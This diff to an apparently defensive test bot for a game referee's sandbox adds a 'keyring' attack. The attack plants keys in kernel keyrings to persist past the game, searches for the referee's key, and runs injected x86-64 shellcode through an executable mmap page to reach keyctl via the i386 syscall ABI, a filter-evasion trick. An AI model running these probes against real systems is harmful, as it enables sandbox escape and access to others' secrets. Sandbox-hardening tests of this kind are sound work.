@@ -152,6 +152,33 @@ def escalate():
         say(" ".join(line.strip() for line in f if line.startswith("CapEff")))
 
 
+# keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0) through the i386 ABI (int 0x80),
+# as x86-64 machine code: push rbx; mov eax, 288; mov ebx, 0; mov ecx, -4; xor edx, edx;
+# int 0x80; pop rbx; ret.
+I386_KEYCTL = bytes.fromhex("53b820010000bb00000000b9fcffffff31d2cd805bc3")
+
+
+def keyring():
+    """Leave a key in the kernel's keyrings (to outlive the game), look for the referee's."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+    add_key, keyctl = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
+    search = 10  # KEYCTL_SEARCH
+    for name, ring in (("user", -4), ("session", -3), ("user session", -5)):
+        kid = libc.syscall(add_key, b"user", f"bot-{token}".encode(), b"left behind", 11, ctypes.c_int(ring))
+        say(f"add_key {name}: " + ("stored" if kid >= 0 else os.strerror(ctypes.get_errno())))
+        kid = libc.syscall(keyctl, search, ctypes.c_int(ring), b"user", f"referee-{token}".encode(), 0)
+        say(f"search {name}: " + ("found the referee's key" if kid >= 0 else os.strerror(ctypes.get_errno())))
+    if os.uname().machine == "x86_64":
+        import mmap
+
+        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+        page.write(I386_KEYCTL)
+        call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
+        result = call()
+        say("i386 keyctl: " + (f"keyring {result}" if result >= 0 else os.strerror(-result)))
+
+
 ATTACKS = {
     "setsid_child": lambda: spawn(forever_sleeping),
     "compute_while_idle": lambda: (spawn(heartbeat), slow_answers()),
@@ -164,6 +191,7 @@ ATTACKS = {
     "big_file": big_file,
     "snoop": snoop,
     "escalate": escalate,
+    "keyring": keyring,
 }
 
 sys.stdin.readline()  # the start number
